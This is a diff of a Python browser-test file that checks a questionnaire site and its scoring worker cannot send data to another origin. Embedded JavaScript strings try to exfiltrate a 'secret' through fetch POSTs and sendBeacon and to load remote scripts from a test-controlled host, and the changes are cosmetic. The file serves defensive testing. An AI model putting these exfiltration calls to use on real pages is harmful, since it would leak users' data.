@@ -80,7 +80,8 @@ def elsewhere(page: Page, tmp_path: Path) -> Iterator[StaticSite]:
 
 ATTEMPTS = """async (address) => {
   const attempt = async (act) => { try { await act(); } catch {} };
-  const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
+  const add = (tag, attributes) =>
+    document.body.append(Object.assign(document.createElement(tag), attributes));
   await attempt(() => fetch(address + 'fetch'));
   await attempt(() => fetch(address + 'no-cors', { mode: 'no-cors', method: 'POST', body: 'secret' }));
   await attempt(() => navigator.sendBeacon(address + 'beacon', 'secret'));
@@ -135,7 +136,7 @@ def test_no_script_in_the_engines_worker_gets_out(audit: Questionnaire, elsewher
           const attempt = (act) => act().then(() => 'got out', () => 'refused');
           return [
             await attempt(() => fetch(address + 'fetch')),
-            await attempt(() => fetch(address + 'no-cors', { mode: 'no-cors', method: 'POST', body: 'secret' })),
+            await attempt(() => fetch(address + 'post', { mode: 'no-cors', method: 'POST', body: 'secret' })),
             await attempt(() => import(address + 'module.js')),
             await attempt(async () => importScripts(address + 'script.js')),
             await attempt(() => new Promise((resolve, reject) => {
@@ -156,7 +157,7 @@ def test_no_script_in_the_engines_worker_gets_out(audit: Questionnaire, elsewher
 def test_scoring_code_that_tries_to_send_answers_away_gets_nowhere(
     audit: Questionnaire, elsewhere: StaticSite, site: StaticSite
 ) -> None:
-    """The check refuses such code when a site is built. Were it published all the same, the browser refuses too."""
+    """The build refuses such code. Were it published all the same, the browser refuses it too."""
     code = f"""
 from questionnaire_core import Classification, Result
 from js import XMLHttpRequest, fetch
